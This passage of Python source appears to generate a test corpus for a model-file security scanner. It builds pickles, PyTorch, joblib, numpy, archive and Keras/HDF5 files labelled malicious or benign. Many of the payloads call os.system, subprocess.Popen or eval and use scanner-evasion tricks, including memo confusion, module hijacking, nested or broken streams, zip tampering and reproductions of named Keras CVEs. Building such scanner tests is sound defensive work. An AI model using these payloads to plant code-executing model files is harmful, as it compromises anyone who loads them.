    add("builtins_breakpoint_sys_settrace", 2, lambda p: simple(p, "sys", "settrace", None),
        "sys.settrace: interpreter state manipulation from a pickle")
    add("code_interact", 2, lambda p: simple(p, "code", "interact", "aigis-sample-payload", None, {}),
        "code.interact opens an interactive interpreter")
    add("pickle_loads_nested", 2, lambda p: simple(p, "pickle", "loads", os_system_pickle(2)) if p >= 3 else
        Pk(p).call("pickle", "loads", E(lambda q: q.call("_codecs", "encode", os_system_pickle(2).decode("latin1"), "latin1"))).stop().data(),
        "pickle.loads of a nested os.system pickle (bytes via _codecs.encode, as protocol 2 pickles bytes)")
    return g


def write_gadgets(out):
    for stem, proto, build, note in gadgets():
        out.add(f"malicious/gadgets/{stem}_p{proto}.pkl", build(proto), "malicious", "gadget:" + stem, note)


# ---- malicious techniques --------------------------------------------------

def tech_dotted_argparse(target=("os", "system"), arg=CMD):
    # argparse does `import os as _os`; protocol 4 find_class walks dotted names
    p = Pk(4)
    p.str("argparse").str("_os." + target[1]).stack_global()
    return p.tup((arg,)).reduce().stop().data()


def tech_builtins_dict_get():
    p = Pk(4)
    p.str("builtins").str("__dict__.get").stack_global()
    p.tup(("eval",)).reduce()           # builtins.__dict__.get('eval') -> eval
    return p.tup((PYCODE,)).reduce().stop().data()


def tech_memo_stack_global(mod="os", name="system", arg=CMD):
    p = Pk(4)
    p.str(mod).memoize().str(name).memoize().pop().pop()   # strings parked in memo 0,1
    p.str("torch._utils").memoize().str("_rebuild_tensor_v2").memoize().pop().pop()
    p.get(0).get(1).stack_global()
    return p.tup((arg,)).reduce().stop().data()


def tech_memo_put_memoize_confusion(mod="os", name="system", arg=CMD):
    """BINPUT to explicit slots mixed with MEMOIZE: a tracker that numbers memo
    entries by counting MEMOIZE/PUT opcodes maps slot 0 to 'torch._utils'."""
    p = Pk(4)
    p.str(mod).put(0).str(name).put(1)
    p.str("torch._utils").memoize().str("_rebuild_tensor_v2").memoize()   # memo[2], memo[3]
    p.pop().pop().pop().pop()
    p.get(0).get(1).stack_global()
    return p.tup((arg,)).reduce().stop().data()


def tech_memo_callable(mod="os", name="system", arg=CMD):
    p = Pk(2)
    p.global_(mod, name).put(7).pop()
    p.empty_dict().str("state").str("benign").setitem().pop()
    p.get(7).tup((arg,)).reduce()
    return p.stop().data()


def tech_inst(mod="os", name="system", arg=CMD):
    p = Pk(0, header=False)
    p.mark().pystring(arg).inst(mod, name).stop()
    return p.data()


def tech_obj(mod="os", name="system", arg=CMD):
    p = Pk(1, header=False)
    p.mark().global_(mod, name).str(arg).obj().stop()
    return p.data()


def tech_newobj_popen():
    p = Pk(2)
    p.global_("subprocess", "Popen").tup((ARGV,)).newobj().stop()
    return p.data()


def tech_newobj_ex_popen():
    p = Pk(4)
    p.glob("subprocess", "Popen").tup((ARGV,)).val({"shell": False}).newobj_ex().stop()
    return p.data()


def tech_ext(width, mod="os", name="system", arg=CMD):
    code = {1: 0xE1, 2: 0x4A1B, 4: 0x10C0FFE}[width]
    p = Pk(2)
    p.call("copyreg", "add_extension", mod, name, code).pop()
    getattr(p, f"ext{width}")(code)
    return p.tup((arg,)).reduce().stop().data()


def tech_frame_straddle(mod="os", name="system", arg=CMD):
    """Protocol 4 FRAME whose declared length ends inside the STACK_GLOBAL operand
    string: CPython's C unpickler treats frames as read-ahead hints and loads it."""
    body = Pk(4, header=False)
    body.str(mod).str(name).stack_global().tup((arg,)).reduce().stop()
    b = body.data()
    cut = 2 + len(mod) + 3   # inside the second SHORT_BINUNICODE
    return b"\x80\x04" + b"\x95" + struct.pack("<Q", cut) + b


def tech_build_class_setstate(mod="os", name="system", arg=CMD, cls=("argparse", "Namespace")):
    """BUILD with a (None, slotstate) tuple on a class object: setattr(Namespace,
    '__setstate__', os.system); the next BUILD on a Namespace instance calls it."""
    p = Pk(2)
    p.global_(*cls).none().empty_dict().str("__setstate__").global_(mod, name).setitem()
    p.raw(b"\x86").build().pop()
    p.call(*cls).str(arg).build()
    return p.stop().data()


def tech_build_module_hijack():
    """BUILD on a module object (os.path -> posixpath) rebinds posixpath.join to
    posix.system; the later, innocent-looking posixpath.join call runs it."""
    p = Pk(2)
    p.global_("os", "path").none().empty_dict().str("join").global_("posix", "system").setitem()
    p.raw(b"\x86").build().pop()
    p.call("posixpath", "join", CMD)
    return p.stop().data()


def tech_build_torch_hijack():
    """BUILD on module torch._utils: replaces _rebuild_tensor_v2 with builtins.exec,
    then a normal-looking tensor rebuild call runs source."""
    p = Pk(2)
    p.global_("torch", "_utils").none().empty_dict().str("_rebuild_tensor_v2").global_("builtins", "exec").setitem()
    p.raw(b"\x86").build().pop()
    p.call("torch._utils", "_rebuild_tensor_v2", PYCODE)
    return p.stop().data()


def tech_nested_pickle_loads():
    return simple(3, "pickle", "loads", os_system_pickle(2))


def tech_nested_base64():
    inner = base64.b64encode(os_system_pickle(2)).decode()
    return simple(2, "pickle", "loads", Call("base64", "b64decode", inner))


def tech_nested_torch_load():
    # functools.partial(torch.load, weights_only=False)(io.BytesIO(inner))
    p = Pk(4)
    p.glob("functools", "partial").tup((Glob("torch", "load"),)).val({"weights_only": False}).newobj_ex()
    p.tup((Call("io", "BytesIO", os_system_pickle(2)),)).reduce().stop()
    return p.data()


def tech_multi_stream():
    benign = pickle.dumps({"epoch": 3, "lr": 0.001}, protocol=2)
    return benign + os_system_pickle(2)


def tech_junk_between():
    benign = pickle.dumps({"epoch": 3, "lr": 0.001}, protocol=2)
    return benign + b"\x00" * 13 + b"aigis junk between streams\n" + os_system_pickle(2)


def tech_truncated_after_call():
    p = Pk(2)
    p.empty_dict().str("a").call("os", "system", CMD).setitem().str("b").global_("collections", "Ordered")
    return p.data()  # ends inside a GLOBAL line, no STOP


def tech_nullifai_broken():
    """nullifAI-style: payload first, then a byte that is no opcode (the stream can
    never finish loading, but the payload has already run)."""
    p = Pk(2)
    p.call("os", "system", CMD).pop().empty_dict().raw(b"\xff\xfe aigis broken tail").stop()
    return p.data()


def tech_call_result_popped():
    p = Pk(2)
    p.call("os", "system", CMD).pop()
    p.val({"weights": [1.0, 2.0], "epoch": 1}).stop()
    return p.data()


def tech_proto0_crlf():
    return b"cos\nsystem\n(S'" + CMD.encode() + b"'\r\ntR."


def tech_proto0_all_crlf():
    return b"cos\r\nsystem\r\n(S'" + CMD.encode() + b"'\r\ntR."


def tech_py2_builtin_eval():
    return simple(2, "__builtin__", "eval", PYCODE)


def tech_copy_reg_reconstructor():
    p = Pk(2)
    p.call("copy_reg", "_reconstructor", Glob("subprocess", "Popen"), Glob("subprocess", "Popen"), ARGV)
    return p.stop().data()


def tech_py2_posix_p0():
    return b"cposix\nsystem\np0\n(S'" + CMD.encode() + b"'\np1\ntp2\nRp3\n."


def tech_stack_global_computed():
    """The module name is computed at load time (codecs.decode('bf','rot13') == 'os'),
    so no string 'os' ever appears in the stream."""
    p = Pk(4)
    p.call("codecs", "decode", "bf", "rot13").str("system").stack_global()
    return p.tup((CMD,)).reduce().stop().data()


def tech_reduce_from_getattr_on_allowed():
    """collections.OrderedDict is allowed; getattr of its __init__ globals reaches os? No:
    use getattr on an allowed module-level object to reach a dangerous builtin."""
    p = Pk(2)
    p.val(Call("builtins", "getattr", Glob("collections", "_sys"), "modules"))
    return p.stop().data()


def storage_zip(pickle_for_data_pkl):
    """torch.save(storage) as the bytes torch.storage._load_from_bytes reads."""
    return torch_zip(pickle_for_data_pkl, [("0", f32([1.0, 2.0]))])


def plain_pickled_tensor(nested):
    """pickle.dumps(torch.tensor([1., 2.])): _rebuild_tensor_v2 over _load_from_bytes(zip)."""
    p = Pk(3)
    p.global_("torch._utils", "_rebuild_tensor_v2").mark()
    p.val(Call("torch.storage", "_load_from_bytes", nested))
    p.int(0).tup((2,)).tup((1,)).bool(False).call("collections", "OrderedDict")
    p.tuple().reduce()
    return p.stop().data()


def tech_load_from_bytes_evil():
    return plain_pickled_tensor(storage_zip(os_system_pickle(2)))


def tech_partial_os_system():
    p = Pk(2)
    p.val(Call("functools", "partial", Glob("os", "system"), CMD))
    return p.empty_tuple().reduce().stop().data()


def tech_long_binput_memo():
    p = Pk(2)
    p.global_("os", "system").put(0x10000).pop()
    p.get(0x10000).tup((CMD,)).reduce().stop()
    return p.data()


def tech_unicode_module_names():
    """Protocol 0 GLOBAL lines are UTF-8: a dangerous name next to non-ASCII
    neighbours in the same stream (scanners that decode as ASCII crash)."""
    p = Pk(0, header=False)
    p.mark().str("modèle").str("poids").raw(b"d").pop()
    p.global_("os", "system").mark().str(CMD).tuple().reduce().stop()
    return p.data()


def tech_persistent_load_text():
    """PERSID text id before the payload (protocol 0): a loader's persistent_load
    sees an attacker string; the payload follows."""
    p = Pk(0, header=False)
    p.raw(b"Paigis-sample-persid\n").pop()
    p.global_("os", "system").mark().str(CMD).tuple().reduce().stop()
    return p.data()


TECHNIQUES = [
    ("dotted_argparse_os_system", ".pkl", tech_dotted_argparse, "malicious",
     "STACK_GLOBAL('argparse', '_os.system'): dotted name through a module's private import"),
    ("dotted_builtins_dict_get", ".pkl", tech_builtins_dict_get, "malicious",
     "STACK_GLOBAL('builtins','__dict__.get')('eval')(src): eval never named as a global"),
    ("memo_stack_global_operands", ".pkl", tech_memo_stack_global, "malicious",
     "STACK_GLOBAL operands fetched from the memo (BINGET), decoy strings memoized after"),
    ("memo_put_memoize_confusion", ".pkl", tech_memo_put_memoize_confusion, "malicious",
     "explicit BINPUT slots mixed with MEMOIZE (picklescan #14 memo confusion)"),
    ("memo_callable_get", ".pkl", tech_memo_callable, "malicious",
     "os.system stored with BINPUT, popped, fetched later with BINGET before REDUCE"),
    ("long_binput_memo", ".pkl", tech_long_binput_memo, "malicious",
     "LONG_BINPUT/LONG_BINGET slot 65536 holds the callable"),
    ("inst_opcode", ".pkl", tech_inst, "malicious", "INST opcode imports and calls in one step (picklescan #13)"),
    ("obj_opcode", ".pkl", tech_obj, "malicious", "OBJ opcode calls a GLOBAL with the marked arguments"),
    ("newobj_popen", ".pkl", tech_newobj_popen, "malicious", "NEWOBJ on subprocess.Popen (dangerous class)"),
    ("newobj_ex_popen", ".pkl", tech_newobj_ex_popen, "malicious", "NEWOBJ_EX on subprocess.Popen with kwargs"),
    ("ext1_registered", ".pkl", lambda: tech_ext(1), "malicious",
     "copyreg.add_extension('os','system',code) then EXT1 code"),
    ("ext2_registered", ".pkl", lambda: tech_ext(2), "malicious", "same through EXT2"),
    ("ext4_registered", ".pkl", lambda: tech_ext(4), "malicious", "same through EXT4"),
    ("frame_straddle", ".pkl", tech_frame_straddle, "malicious",
     "FRAME length ends inside an opcode argument: in-memory pickle.loads ignores it, pickle.py raises"),
    ("build_class_setstate_hijack", ".pkl", tech_build_class_setstate, "malicious",
     "BUILD (None,{'__setstate__': os.system}) on a class, then BUILD on an instance calls it"),
    ("build_module_attr_hijack", ".pkl", tech_build_module_hijack, "malicious",
     "BUILD on module posixpath rebinds join=posix.system, then posixpath.join(cmd)"),
    ("build_torch_utils_hijack", ".pkl", tech_build_torch_hijack, "malicious",
     "BUILD on module torch._utils rebinds _rebuild_tensor_v2=exec, then calls it"),
    ("nested_pickle_loads", ".pkl", tech_nested_pickle_loads, "malicious", "pickle.loads(b'<os.system pickle>')"),
    ("nested_base64_pickle", ".pkl", tech_nested_base64, "malicious",
     "pickle.loads(base64.b64decode('...')): the inner pickle is not visible as bytes"),
    ("nested_torch_load", ".pkl", tech_nested_torch_load, "malicious",
     "partial(torch.load, weights_only=False)(io.BytesIO(inner)) via NEWOBJ_EX"),
    ("multi_stream_benign_then_malicious", ".pkl", tech_multi_stream, "malicious",
     "two pickles back to back: a benign dict, then os.system (loaders that call load() twice)"),
    ("junk_between_streams", ".pkl", tech_junk_between, "flagged",
     "benign pickle, 40 junk bytes, malicious pickle"),
    ("truncated_after_call", ".pkl", tech_truncated_after_call, "malicious",
     "stream cut mid-opcode after REDUCE os.system: the executed prefix already ran it"),
    ("nullifai_broken_stream", ".pkl", tech_nullifai_broken, "malicious",
     "payload then an invalid opcode (nullifAI, ReversingLabs 2025)"),
    ("call_result_popped", ".pkl", tech_call_result_popped, "malicious",
     "REDUCE os.system whose result is POPped, then a benign dict is returned"),
    ("proto0_crlf_string", ".pkl", tech_proto0_crlf, "malicious",
     "protocol 0 with a \\r\\n-terminated STRING argument (CPython strips it and loads)"),
    ("proto0_crlf_all_lines", ".pkl", tech_proto0_all_crlf, "flagged",
     "all lines \\r\\n (GLOBAL 'os\\r' does not import on CPython 3, still clearly hostile)"),
    ("py2_builtin_eval", ".pkl", tech_py2_builtin_eval, "malicious",
     "__builtin__.eval: Python 2 name, mapped to builtins by fix_imports"),
    ("py2_copy_reg_reconstructor_popen", ".pkl", tech_copy_reg_reconstructor, "malicious",
     "copy_reg._reconstructor(Popen, Popen, argv) calls Popen.__init__ (py2 copy_reg spelling)"),
    ("py2_posix_system_p0", ".pkl", tech_py2_posix_p0, "malicious",
     "cPickle-style protocol 0: cposix/system with PUT after every opcode"),
    ("stack_global_computed_module", ".pkl", tech_stack_global_computed, "flagged",
     "STACK_GLOBAL module name computed at load (codecs.decode('bf','rot13') == 'os')"),
    ("load_from_bytes_nested_evil", ".pkl", tech_load_from_bytes_evil, "malicious",
     "a plainly pickled tensor whose nested torch.save zip (torch.storage._load_from_bytes) calls os.system"),
    ("partial_os_system", ".pkl", tech_partial_os_system, "malicious",
     "functools.partial(os.system, cmd)() : the gadget is only an argument, the call is on the partial"),
    ("getattr_collections_sys_modules", ".pkl", tech_reduce_from_getattr_on_allowed, "malicious",
     "getattr(collections._sys, 'modules'): reaches sys.modules through an allowed module"),
    ("unicode_neighbour_strings", ".pkl", tech_unicode_module_names, "malicious",
     "protocol 0 with non-ASCII strings before the os.system call"),
    ("persid_then_payload", ".pkl", tech_persistent_load_text, "malicious",
     "protocol 0 PERSID id before an os.system call"),
]


def write_techniques(out):
    for stem, ext, fn, expect, note in TECHNIQUES:
        out.add(f"malicious/techniques/{stem}{ext}", fn(), expect, "technique:" + stem, note)


# ---- containers -------------------------------------------------------------

def write_containers(out):
    mal = malicious_torch_pickle()
    st = benign_storages()
    benign_pkl = torch_state_dict_pickle(BENIGN_TENSORS)
    M = "malicious/containers/"

    out.add(M + "torch_zip_malicious_data_pkl.pt", torch_zip(mal, st[:1]), "malicious", "container:torch_zip",
            "PyTorch zip (torch.save layout) whose data.pkl calls os.system")
    out.add(M + "torch_zip_stem_named.pth", torch_zip(mal, st[:1], archive="resnet_finetuned"), "malicious",
            "container:torch_zip", "pre-2.x layout: archive folder named after the file stem")
    out.add(M + "torch_zip_nonstandard_member.pt",
            torch_zip(benign_pkl, st, extra_members=[("weights.bin", os_system_pickle(2))]),
            "malicious", "container:torch_zip_extra_member",
            "benign data.pkl plus a malicious pickle at archive/weights.bin (GHSA-769v-p64c-89pr)")
    out.add(M + "torch_zip_only_nonstandard_pickle.bin",
            zip_build([{"name": "archive/weights.bin", "data": os_system_pickle(2)},
                       {"name": "archive/version", "data": b"3\n"}], align=64),
            "malicious", "container:torch_zip_extra_member", "zip whose only pickle is archive/weights.bin")

    def crc_bad(ents):
        ents[0]["crc"] = 0xDEADBEEF
    out.add(M + "torch_zip_crc_mismatch.pt", torch_zip(mal, st[:1], tamper=crc_bad), "malicious",
            "zip_tamper:crc", "data.pkl CRC wrong: Python zipfile raises, torch (CRC checks off) loads")

    def enc_flag(ents):
        ents[0]["flag"] = 0x1
    out.add(M + "torch_zip_encrypted_flag.pt", torch_zip(mal, st[:1], tamper=enc_flag), "malicious",
            "zip_tamper:encrypted_flag", "stored data.pkl with the 'encrypted' flag bit set, data in clear "
            "(GHSA-w8jq-xcqf-f792)")

    def name_mismatch(ents):
        ents[0]["local_name"] = "archive/data.txt"
    out.add(M + "torch_zip_local_central_name_mismatch.pt", torch_zip(mal, st[:1], tamper=name_mismatch),
            "malicious", "zip_tamper:name_mismatch",
            "local header says archive/data.txt, central directory says archive/data.pkl")

    def dup_benign_first(ents):
        ents.insert(1, {"name": "archive/data.pkl", "data": mal})
        ents[0]["data"] = benign_pkl
    out.add(M + "torch_zip_duplicate_benign_first.pt", torch_zip(benign_pkl, st, tamper=dup_benign_first),
            "malicious", "zip_tamper:duplicate_name", "two archive/data.pkl members: benign first, malicious second")

    def dup_mal_first(ents):
        ents.insert(1, {"name": "archive/data.pkl", "data": benign_pkl})
        ents[0]["data"] = mal
    out.add(M + "torch_zip_duplicate_malicious_first.pt", torch_zip(mal, st, tamper=dup_mal_first),
            "malicious", "zip_tamper:duplicate_name", "two archive/data.pkl members: malicious first, benign second")

    out.add(M + "torch_zip_prepended_pickle.pt", os_system_pickle(2) + benign_torch_zip(), "malicious",
            "zip_tamper:prepended_pickle",
            "malicious pickle prepended to a benign torch zip: torch.load sees no PK magic and unpickles the front")
    out.add(M + "torch_zip_prepended_junk.pt", b"aigis prepended junk\n" * 8 + torch_zip(mal, st[:1]),
            "malicious", "zip_tamper:prepended_junk", "junk before a malicious torch zip (self-extractor style offsets)")
    out.add(M + "torch_zip_deflated_data_pkl.pt",
            zip_build([{"name": "archive/data.pkl", "data": mal, "method": 8},
                       {"name": "archive/data/0", "data": st[0][1]},
                       {"name": "archive/version", "data": b"3\n"}]),
            "malicious", "container:torch_zip", "data.pkl deflate-compressed instead of stored")

    legacy_main = Pk(2)
    legacy_main.call("collections", "OrderedDict").mark().str("w")
    torch_tensor(legacy_main, "94000000", (2, 2), legacy=True)
    legacy_main.str("b").call("posix", "system", CMD).setitems().stop()
    out.add(M + "torch_legacy_malicious.pt",
            torch_legacy(legacy_main.data(), [("94000000", f32([1, 2, 3, 4]))]), "malicious",
            "container:torch_legacy", "legacy (non-zip) torch.save: 5 stacked pickles + storages; 4th calls posix.system")
    out.add(M + "torch_legacy_malicious_magic.pt",
            torch_legacy(torch_state_dict_pickle([("w", "1", (2, 2))], legacy=True),
                         [("1", f32([1, 2, 3, 4]))], magic_pickle=os_system_pickle(2)),
            "malicious", "container:torch_legacy", "legacy format whose first (magic number) pickle is the payload")
    out.add(M + "torch_tar_legacy_malicious.tar", torch_legacy_tar(os_system_pickle(2)), "malicious",
            "container:torch_tar", "pre-0.4 tar checkpoint (sys_info, pickle, storages, tensors); 'pickle' is malicious")
    out.add(M + "torchscript_malicious_constants.pt", torchscript_zip(os_system_pickle(2)), "malicious",
            "container:torchscript", "TorchScript archive whose constants.pkl calls os.system")

    # joblib
    pay = lambda j: j.call("posix", "system", CMD)
    jmal = joblib_estimator(payload=pay)
    out.add(M + "joblib_malicious_after_raw_arrays.joblib", jmal, "malicious", "container:joblib",
            "joblib layout: raw array bytes between opcodes, then posix.system (pickletools-based scanners stop at the raw bytes)")
    for kind in ("zlib", "gzip", "bz2", "xz", "lzma"):
        out.add(M + f"joblib_malicious_{kind}.joblib", joblib_compress(jmal, kind), "malicious",
                f"container:joblib_{kind}", f"same, whole stream {kind}-compressed the way joblib.dump(compress='{kind}') does")
    out.add(M + "joblib_malicious_object_array.joblib",
            joblib_estimator(object_array=os_system_pickle(5)), "malicious", "container:joblib_object_array",
            "object-dtype array: joblib inlines a nested protocol-5 pickle; that nested pickle is malicious")
    # joblib < 0.10 write_zfile: b"ZF", hex(len) left-justified to len(hex(2**64)) = 19, zlib data.
    zf = b"ZF" + (b"0x%x" % len(jmal)).ljust(19) + zlib.compress(jmal, 3)
    out.add(M + "joblib_malicious_legacy_zf.pkl", zf, "malicious", "container:joblib_zf",
            "joblib < 0.10 'ZF' zlib file format wrapping the malicious stream")

    # numpy
    npy_mal = npy_build("|O", (1,), os_system_pickle(3))
    out.add(M + "numpy_object_array_malicious.npy", npy_mal, "malicious", "container:npy",
            "npy object array (descr |O): the data section is a pickle calling os.system")
    out.add(M + "numpy_npz_malicious.npz",
            zip_build([{"name": "weights.npy", "data": npy_build("<f4", (4,), f32([1, 2, 3, 4]))},
                       {"name": "labels.npy", "data": npy_mal}]), "malicious", "container:npz",
            "npz (zip of npy) with one malicious object array")
    out.add(M + "numpy_npz_deflated_malicious.npz",
            zip_build([{"name": "labels.npy", "data": npy_mal, "method": 8}]), "malicious", "container:npz",
            "np.savez_compressed-style deflated member")

    # archives
    out.add(M + "tar_wrapped_pickle.tar", tar_build([("model/model.pkl", os_system_pickle(2))]), "malicious",
            "container:tar", "plain tar holding a malicious pickle")
    out.add(M + "tar_gz_wrapped_pickle.tar.gz", tar_build([("model/model.pkl", os_system_pickle(2))], "gz"),
            "malicious", "container:tar_gz", "tar.gz holding a malicious pickle")
    out.add(M + "tar_unknown_type_member.tar", tar_build([("model/model.pkl", os_system_pickle(2), b"Z")]),
            "malicious", "container:tar_unknown_type",
            "tar member with type flag 'Z': tarfile reads unknown types as regular files")
    out.add(M + "zip_wrapped_pickle.zip", zip_build([{"name": "model/model.pkl", "data": os_system_pickle(4), "method": 8}]),
            "malicious", "container:zip", "plain zip (not torch) holding a malicious pickle")
    out.add(M + "nested_zip_in_tar_gz.tar.gz", tar_build([("export/model.pt", torch_zip(mal, st[:1]))], "gz"),
            "malicious", "container:nested", "malicious torch zip inside a tar.gz")
    out.add(M + "gzip_wrapped_pickle.pkl.gz", gzip_bytes(os_system_pickle(2)), "malicious", "container:gzip",
            "gzip-compressed malicious pickle")


# ---- keras ------------------------------------------------------------------

def keras_func_dump(fn):
    """Keras' python_utils.func_dump: base64 of marshal.dumps(fn.__code__).
    (marshal.dumps only serialises the code object; nothing is run.)"""
    return base64.encodebytes(marshal.dumps(fn.__code__)).decode("ascii")


def keras_layer(module, cls, config):
    return {"module": module, "class_name": cls, "config": config, "registered_name": None}


def keras_dense(name):
    return keras_layer("keras.layers", "Dense", {
        "name": name, "units": 8, "activation": "relu", "use_bias": True,
        "kernel_initializer": keras_layer("keras.initializers", "GlorotUniform", {"seed": None}),
        "dtype": keras_layer("keras", "DTypePolicy", {"name": "float32"})})


def keras_lambda(fn):
    return keras_layer("keras.layers", "Lambda", {
        "name": "lambda", "function": {"class_name": "__lambda__", "config": {
            "code": keras_func_dump(fn), "defaults": None, "closure": None}}, "arguments": {}})


def hdf5_file(attrs):
    """A minimal HDF5 file (superblock 0, a version 1 root object header)
    whose root group (empty, new-style) carries `attrs` as fixed-length
    string attributes, as h5py writes `numpy.bytes_` values."""
    def pad8(b):
        return b + bytes(-len(b) % 8)
    def message(kind, body):
        body = pad8(body)
        return struct.pack("<HHB3x", kind, len(body), 0) + body
    undefined = 0xFFFFFFFFFFFFFFFF
    # An empty new-style group: link info (no fractal heap) and group info.
    msgs = message(0x02, struct.pack("<BBQQ", 0, 0, undefined, undefined)) + message(0x0A, bytes(2))
    for name, value in attrs.items():
        value = value.encode() if isinstance(value, str) else value
        nm = name.encode() + b"\0"
        dtype = bytes([0x13, 0, 0, 0]) + struct.pack("<I", len(value))   # class 3 (string), version 1
        space = bytes([1, 0, 0, 0, 0, 0, 0, 0])                        # version 1 scalar
        body = struct.pack("<BBHHH", 1, 0, len(nm), len(dtype), len(space))
        body += pad8(nm) + pad8(dtype) + pad8(space) + pad8(value)
        msgs += message(0x0C, body)
    header_at = 96
    oh = struct.pack("<BBHII4x", 1, 0, 2 + len(attrs), 1, len(msgs)) + msgs
    sb = b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + struct.pack("<HHI", 4, 16, 0)
    sb += struct.pack("<QQQQ", 0, undefined, header_at + len(oh), undefined)
    sb += struct.pack("<QQII", 0, header_at, 0, 0) + bytes(16)          # root symbol table entry
    assert len(sb) == header_at
    return sb + oh


def keras_h5(config, training=None):
    """A legacy Keras `.h5` model: the model JSON in root attributes."""
    attrs = {"backend": "tensorflow", "keras_version": "2.15.0", "model_config": json.dumps(config)}
    if training is not None:
        attrs["training_config"] = json.dumps(training)
    return hdf5_file(attrs)


def tf_keras_lambda(fn):
    """tf.keras 2.x Lambda config: [func_dump, defaults, closure], function_type lambda."""
    return {"class_name": "Lambda", "config": {"name": "lambda", "function": [keras_func_dump(fn), None, None],
                                                "function_type": "lambda", "module": "__main__",
                                                "output_shape": None, "arguments": {}}}


def tf_keras_dense(name):
    return {"class_name": "Dense", "config": {"name": name, "units": 8, "activation": "relu",
                                               "kernel_initializer": {"class_name": "GlorotUniform",
                                                                      "config": {"seed": None}}}}


def tf_keras_sequential(layers):
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}


def keras_model(layers, extra_members=()):
    config = keras_layer("keras", "Sequential", {"name": "sequential", "layers": layers})
    config["compile_config"] = {
        "optimizer": keras_layer("keras.optimizers", "Adam", {"learning_rate": 0.001}),
        "loss": keras_layer("keras.losses", "MeanSquaredError", {"name": "mse"}),
        "metrics": [{"module": "keras.metrics", "class_name": "function",
                     "config": "mean_absolute_error", "registered_name": "function"}]}
    ents = [{"name": "metadata.json", "data": json.dumps({"keras_version": "3.6.0",
                                                          "date_saved": "2026-01-01@00:00:00"}).encode()},
            {"name": "config.json", "data": json.dumps(config).encode(), "method": 8},
            {"name": "model.weights.h5", "data": hdf5_file({})}]
    ents += [{"name": n, "data": d} for n, d in extra_members]
    return zip_build(ents)


def write_keras(out):
    M, B = "malicious/keras/", "benign/keras/"
    out.add(B + "sequential_dense.keras", keras_model([keras_dense("d1"), keras_dense("d2")]), "clean",
            "benign:keras", "Keras 3 .keras layout: config.json (Sequential of Dense), metadata, weights")
    out.add("unapproved/keras_lambda_benign.keras", keras_model([keras_dense("d1"), keras_lambda(lambda x: x * 2.0 + 1.0)]),
            "unapproved", "unapproved:keras_lambda", "Lambda layer with harmless bytecode (x * 2 + 1): still code that runs")
    out.add(M + "lambda_os_system.keras",
            keras_model([keras_lambda(lambda x: __import__("os").system(CMD) or x)]), "malicious",
            "keras:lambda", "Lambda layer whose marshalled bytecode calls __import__('os').system")
    out.add(M + "cve_2025_1550_module_os_system.keras",
            keras_model([keras_layer("keras.layers", "Dense", {"name": "d", "units": 1, "activation": {
                "module": "os", "class_name": "function", "config": "system", "registered_name": "function"}})]),
            "malicious", "keras:cve-2025-1550", "config reaches os.system through module/class_name (CVE-2025-1550)")
    out.add(M + "cve_2025_8747_get_file.keras",
            keras_model([keras_layer("keras.layers", "Dense", {"name": "d", "units": 1, "kernel_initializer": {
                "module": "keras.utils", "class_name": "function", "config": "get_file",
                "registered_name": "function"}})]),
            "malicious", "keras:cve-2025-8747", "config calls keras.utils.get_file (CVE-2025-8747)")
    out.add(M + "cve_2025_9906_enable_unsafe.keras",
            keras_model([{"module": "keras.config", "class_name": "function",
                          "config": "enable_unsafe_deserialization", "registered_name": "function"},
                         keras_lambda(lambda x: x)]),
            "malicious", "keras:cve-2025-9906", "config turns safe mode off before a Lambda (CVE-2025-9905/9906)")
    out.add(M + "cve_2025_49655_torch_module_wrapper.keras",
            keras_model([keras_layer("keras.layers", "TorchModuleWrapper", {
                "name": "torch_module_wrapper",
                "module": base64.b64encode(os_system_pickle(2)).decode("ascii")})]),
            "malicious", "keras:cve-2025-49655", "TorchModuleWrapper with a pickled os.system payload (CVE-2025-49655)")
    # Legacy HDF5 models: the same config, kept in root attributes.
    out.add(B + "tf_keras_sequential.h5", keras_h5(tf_keras_sequential([tf_keras_dense("d1"), tf_keras_dense("d2")]),
                                                   {"loss": "mse", "optimizer_config": {
                                                       "class_name": "Adam", "config": {"learning_rate": 0.001}}}),
            "clean", "benign:keras_h5", "legacy Keras .h5: model_config and training_config attributes, Dense only")
    out.add(B + "weights_only.h5", hdf5_file({"backend": "tensorflow", "keras_version": "2.15.0"}), "clean",
            "benign:hdf5", "an HDF5 file without a model config (weights or data)")
    out.add(M + "h5_lambda_os_system.h5",
            keras_h5(tf_keras_sequential([tf_keras_lambda(lambda x: __import__("os").system(CMD) or x)])),
            "malicious", "keras:h5_lambda", "legacy .h5 whose Lambda layer bytecode calls __import__('os').system")
    out.add(M + "h5_module_os_system.h5",
            keras_h5(tf_keras_sequential([keras_layer("keras.layers", "Dense", {"name": "d", "units": 1, "activation": {
                "module": "os", "class_name": "function", "config": "system", "registered_name": "function"}})])),
            "malicious", "keras:h5_cve-2025-1550", "legacy .h5 config reaching os.system through module/class_name")
    out.add(M + "h5_training_config_gadget.h5",
            keras_h5(tf_keras_sequential([tf_keras_dense("d1")]),
                     {"loss": {"module": "subprocess", "class_name": "function", "config": "check_output",
                               "registered_name": "function"}}),
            "malicious", "keras:h5_training_config", "legacy .h5 whose training_config loss names subprocess.check_output")
    out.add("unapproved/keras_h5_lambda_benign.h5",
            keras_h5(tf_keras_sequential([tf_keras_dense("d1"), tf_keras_lambda(lambda x: x * 2.0)])),
            "unapproved", "unapproved:keras_lambda", "legacy .h5 Lambda layer with harmless bytecode")
    user_block = bytearray(hdf5_file({"model_config": json.dumps(tf_keras_sequential(
        [tf_keras_lambda(lambda x: __import__("os").system(CMD) or x)]))}))
    # A 512-byte user block before the superblock moves every address by 512.
    out.add(M + "h5_user_block_lambda.h5", bytes(512) + bytes(user_block), "malicious", "keras:h5_user_block",
            "legacy .h5 behind a 512-byte user block (h5py searches 512·2^n offsets) with an os.system Lambda")
    out.add(M + "h5_truncated.h5", keras_h5(tf_keras_sequential([tf_keras_dense("d1")]))[:120], "inconclusive",
            "keras:h5_truncated", "legacy .h5 cut inside the root object header")
    out.add("unapproved/keras_embedded_python.keras",
            keras_model([keras_dense("d1")], [("assets/loader.py", b"import os\nos.system('id')\n")]),
            "unapproved", "keras:embedded_code", "a .keras archive shipping a Python file")


# ---- model repositories (Hugging Face layout) ------------------------------

def hf_config(model_type="llama", auto_map=None, **extra):
    cfg = {"architectures": ["LlamaForCausalLM"], "model_type": model_type, "hidden_size": 64,
           "num_hidden_layers": 2, "torch_dtype": "bfloat16", "transformers_version": "4.57.0"}
    if auto_map is not None:
        cfg["auto_map"] = auto_map
    cfg.update(extra)
    return json.dumps(cfg, indent=2).encode()


